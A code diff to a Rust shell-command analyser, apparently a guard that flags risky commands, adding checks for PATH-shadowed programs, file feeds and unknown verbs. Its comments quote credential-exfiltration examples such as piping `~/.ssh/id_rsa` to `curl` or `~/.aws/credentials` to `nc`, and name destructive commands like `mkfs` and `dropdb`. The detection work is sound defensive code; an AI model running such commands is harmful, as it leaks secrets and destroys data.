@@ -209,6 +209,8 @@ impl Walk<'_> {
         let dirs = shell.dirs.clone();
         let (output, chdir) = match self.call_function(p, cmd, &feed, shell, reparse) {
             Some(called) => called,
+            // `$(< list.txt)`: bash's substitution of a file is its text, as `$(cat list.txt)`.
+            None if cmd.words.is_empty() && matches!(feed, Feed::File(_)) => (feed.clone(), None),
             None => self.run(cmd.words.clone(), dirs.clone(), &feed, &heredocs, shell, reparse),
         };
         let text = match &output {
@@ -332,6 +334,7 @@ impl Walk<'_> {
         }
         let Some(call) = self.call(cmd) else { return Step::unknown() };
         self.moved_home(&cmd.all[start..cmd.at], &call.prog);
+        self.found_on_project_path(&call.prog, &cmd.dirs);
         if call.name == "[[" && arithmetic_runs(cmd.operands()) {
             self.opaque("its test evaluates text as arithmetic, where an array subscript's $(…) runs");
         }
@@ -389,6 +392,29 @@ impl Walk<'_> {
         self.by_role(cmd, &call, io, shell)
     }
 
+    /// `PATH=.:$PATH git status` where `./git` is there (or the call writes it): the name runs
+    /// the project's file, whose text the analyser does not read as that program's.
+    fn found_on_project_path(&mut self, prog: &str, dirs: &Dirs) {
+        if prog.contains('/') || self.seen.path_dirs.is_empty() {
+            return;
+        }
+        let mut found = false;
+        for entry in self.seen.path_dirs.clone() {
+            match dirs.join(&entry) {
+                Dirs::Known(ds) => {
+                    found |= ds
+                        .iter()
+                        .map(|d| d.join(prog))
+                        .any(|p| p.symlink_metadata().is_ok() || self.seen.scripts.iter().any(|(q, _)| *q == p));
+                }
+                Dirs::Unknown => found = true,
+            }
+        }
+        if found {
+            self.opaque("its program's name is a file of a directory the call puts on the PATH (the project's, or one relative to where it runs): that file runs, not the program");
+        }
+    }
+
     /// A word that holds a command line running gitvow's guarded subcommands, as the value of an
     /// environment variable the program may run (`PAGER=…`, `LESSOPEN=…`), or as an argument of a
     /// program whose arguments the walk does not read as commands: an option's value that is a
@@ -429,8 +455,9 @@ impl Walk<'_> {
         let args: Vec<String> = words[1..].iter().map(Word::text).collect();
         if programs::asks_for_help(&name, &args) {
             // `terraform destroy --help`, `git push --help`: the program prints its manual and
-            // stops; what the other words would do does not happen.
-            self.out.texts.push(format!("{name} --help"));
+            // stops; what the other words would do does not happen. The text names the program
+            // after `help`, where no rule about running it (`^mkfs`, `^dropdb`) reads it.
+            self.out.texts.push(format!("help {name}"));
             return None;
         }
         // `git push --force --dry-run`, `kubectl delete ns x --dry-run=server`, `rsync -n --delete`:
@@ -448,6 +475,13 @@ impl Walk<'_> {
         }
         let text = if self.image_format(&name, &words[1..], &cmd.dirs) { format!("image-format {text}") } else { text };
         let text = if super::local_db::local_test_admin(&name, &args) { format!("test-database {text}") } else { text };
+        // `acme node delete web1`, `expo publish`: a command line the table does not know, read
+        // by its verb (see `verbs`).
+        if programs::program(&name).is_none()
+            && let Some(class) = super::verbs::of(&name, &args)
+        {
+            self.out.texts.push(format!("verb {class} {text}"));
+        }
         match self.moved(&name, &words[1..], &cmd.dirs) {
             Some(texts) => self.out.texts.extend(texts),
             None => self.out.texts.push(text),
@@ -457,7 +491,15 @@ impl Walk<'_> {
 
     /// What the program's role in the table makes of the command.
     fn by_role(&mut self, cmd: &mut Peeled, call: &ProgramCall, io: &Io, shell: &mut ShellState) -> Step {
+        let before = self.out.reads.len();
         self.reads(call, cmd.operands(), io, &cmd.dirs.clone());
+        self.sends_what_was_read(call, before);
+        if let Feed::File(path) = io.feed {
+            // `nc host 80 < ~/.aws/credentials`, `cat ~/.ssh/id_rsa | curl -d @- URL`: the file a
+            // program reads on standard input is a text `PROG ARGS < PATH` for the rules, which
+            // say which programs send what they read.
+            self.out.texts.push(format!("{} < {}", text(&call.name, &call.args), self.shown(path)));
+        }
         if call.name == "read" {
             self.read_line(cmd.operands(), io.feed, &cmd.dirs);
         } else if matches!(call.name.as_str(), "mapfile" | "readarray") {
